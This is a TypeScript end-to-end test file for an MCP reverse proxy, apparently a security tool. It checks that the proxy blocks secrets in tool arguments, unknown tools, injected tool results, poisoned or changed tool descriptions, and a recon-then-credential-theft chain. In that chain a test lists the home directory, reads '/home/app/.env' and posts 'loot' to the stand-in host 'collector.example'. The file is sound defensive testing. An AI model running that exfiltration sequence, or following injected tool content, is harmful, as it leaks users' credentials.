// End to end: the official MCP SDK client → pipelock's MCP reverse proxy →
// an MCP server built with the same SDK, over Streamable HTTP (SSE and JSON
// answers). Clean sessions pass unchanged; attacks are blocked or flagged.
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { createScanner } from '@pipelock/core';
import type { PartialConfig } from '@pipelock/core';
import { createMcpProxyHandler } from '@pipelock/proxy';
import type { McpDecisionRecord } from '@pipelock/proxy';
import { afterEach, describe, expect, it } from 'vitest';
import { callsReceived, startUpstream } from './helpers.js';
import type { Upstream } from './helpers.js';

const blockAll: PartialConfig = {
  mode: 'balanced',
  response_scanning: { action: 'block' },
  mcp_tool_scanning: { action: 'block' },
  mcp_tool_policy: { action: 'block' },
  mcp_session_binding: { unknown_tool_action: 'block' },
  tool_chain_detection: { action: 'block' },
};

const open: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (open.length) await open.pop()!();
});

async function proxyTo(upstream: Upstream, config: PartialConfig = blockAll) {
  const records: McpDecisionRecord[] = [];
  const scanner = createScanner(config, { now: Date.now });
  const handler = createMcpProxyHandler({ upstream: upstream.url, scanner: () => scanner, record: (r) => records.push(r) });
  const server: Server = createServer((req, res) => handler.handle(req, res));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  open.push(async () => {
    server.closeAllConnections();
    await new Promise<void>((r) => server.close(() => r()));
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, records, handler };
}

async function connect(url: string, headers: Record<string, string> = {}) {
  const client = new Client({ name: 'e2e-client', version: '1.0.0' });
  await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers } }));
  open.push(() => client.close());
  return client;
}

async function upstream(mode: string, json = false) {
  const u = await startUpstream(mode, { json });
  open.push(() => u.close());
  return u;
}

// Built at run time so the repository holds no key-shaped literal.
const awsKey = () => ['AKIA', 'QZ7W3NB4', 'XK2LM5PD'].join('');

describe.each([
  ['SSE answers', false],
  ['JSON answers', true],
])('MCP reverse proxy (%s)', (_name, json) => {
  it('passes a clean session unchanged: listTools and callTool equal the direct results', async () => {
    const u = await upstream('clean', json);
    const p = await proxyTo(u);
    const direct = await connect(u.url);
    const viaProxy = await connect(p.url, { Authorization: 'Bearer test-token-123' });
    expect(await viaProxy.listTools()).toEqual(await direct.listTools());
    expect(await viaProxy.callTool({ name: 'get_weather', arguments: { city: 'Lisbon' } })).toEqual(
      await direct.callTool({ name: 'get_weather', arguments: { city: 'Lisbon' } }),
    );
    // The client's bearer token reached the server untouched.
    expect(u.received.some((r) => r.headers.authorization === 'Bearer test-token-123')).toBe(true);
    expect(p.records.every((r) => r.decision === 'allow')).toBe(true);
    expect(p.handler.sessionCount).toBeGreaterThan(0);
  });

  it('blocks a secret in tool arguments before it reaches the server', async () => {
    const u = await upstream('clean', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    await c.listTools();
    const err = await c.callTool({ name: 'echo', arguments: { text: `key ${awsKey()}` } }).catch((e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    expect(String((err as Error).message)).toMatch(/pipelock blocked this request: dlp rule/);
    expect(String((err as Error).message)).not.toContain(awsKey());
    expect(callsReceived(u)).not.toContain('echo');
  });

  it('blocks an unknown tool call', async () => {
    const u = await upstream('clean', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    await c.listTools();
    const err = await c.callTool({ name: 'delete_everything', arguments: {} }).catch((e: Error) => e);
    expect(String((err as Error).message)).toMatch(/session rule "Unknown Tool"/);
    expect(callsReceived(u)).not.toContain('delete_everything');
  });

  it('blocks an injected tool result and the client never sees it', async () => {
    const u = await upstream('injected', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    await c.listTools();
    const err = await c.callTool({ name: 'fetch_page', arguments: { url: 'https://example.org' } }).catch((e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    expect(String((err as Error).message)).toMatch(/pipelock blocked this response: injection rule/);
    expect(callsReceived(u)).toContain('fetch_page');
  });

  it('flags a poisoned tool description', async () => {
    const u = await upstream('poisoned', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    const err = await c.listTools().catch((e: Error) => e);
    expect(String((err as Error).message)).toMatch(/tool-poison rule/);
    const flagged = p.records.flatMap((r) => r.findings).filter((f) => f.scanner === 'tool-poison');
    expect(flagged.map((f) => f.location)).toContain('mcp.tools[add].description');
  });

  it('detects a rug pull: the tool description changes after the first listing', async () => {
    const u = await upstream('rugpull', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    await c.listTools();
    await c.callTool({ name: 'echo', arguments: { text: 'hi' } });
    const err = await c.listTools().catch((e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    expect(p.records.flatMap((r) => r.findings).map((f) => f.rule)).toContain('Tool Definition Changed');
  });

  it('flags recon → credential read → network send', async () => {
    const u = await upstream('clean', json);
    const p = await proxyTo(u);
    const c = await connect(p.url);
    await c.listTools();
    await c.callTool({ name: 'list_directory', arguments: { path: '~' } });
    await c.callTool({ name: 'read_file', arguments: { path: '/home/app/.env' } });
    const err = await c.callTool({ name: 'http_post', arguments: { url: 'https://collector.example/x', body: 'loot' } }).catch((e: Error) => e);
    expect(String((err as Error).message)).toMatch(/chain rule/);
    expect(callsReceived(u)).not.toContain('http_post');
  });
});

describe('MCP reverse proxy: upstream failures', () => {
  it('answers a JSON-RPC error when the upstream is down', async () => {
    const u = await upstream('clean');
    const p = await proxyTo(u);
    await u.close();
    open.pop();
    const res = await fetch(p.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' }),
    });
    expect(res.status).toBe(502);
    const body = (await res.json()) as { error: { message: string } };
    expect(body.error.message).toMatch(/upstream MCP server unreachable/);
  });
});

/** A bare HTTP upstream that answers every POST with the given event-stream behaviour. */
async function rawSseUpstream(answer: (res: import('node:http').ServerResponse) => void): Promise<Upstream> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      answer(res);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const u = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`,
    close: async () => {
      server.closeAllConnections();
      await new Promise<void>((r) => server.close(() => r()));
    },
  } as unknown as Upstream;
  open.push(() => u.close());
  return u;
}

/** POST one request and read the SSE answer to the end; resolves with what arrived and how the body ended. */
async function readStream(url: string): Promise<{ text: string; error: unknown }> {
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
  });
  let text = '';
  try {
    for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) text += Buffer.from(chunk).toString('utf8');
    return { text, error: undefined };
  } catch (error) {
    return { text, error };
  }
}

describe('MCP reverse proxy: event streams that cannot finish', () => {
  it('an event over the frame bound resets the connection (the client sees an error, not a short stream)', async () => {
    const u = await rawSseUpstream((res) => {
      res.write('data: {"jsonrpc":"2.0","method":"notifications/progress","params":{}}\n\n');
      res.write(`data: ${'x'.repeat(1024 * 1024 + 16)}`);
    });
    const p = await proxyTo(u);
    const r = await readStream(p.url);
    expect(r.error).toBeInstanceOf(Error);
    expect(r.text).not.toContain('xxxx');
    expect(p.records.some((x) => x.decision === 'block' && x.direction === 'to-client')).toBe(true);
  });

  it('an upstream that dies mid-stream resets the client connection', async () => {
    const u = await rawSseUpstream((res) => {
      res.write('data: {"jsonrpc":"2.0","method":"notifications/progress","params":{}}\n\n');
      setTimeout(() => res.socket?.destroy(), 20);
    });
    const p = await proxyTo(u);
    const r = await readStream(p.url);
    expect(r.text).toContain('notifications/progress');
    expect(r.error).toBeInstanceOf(Error);
  });
});

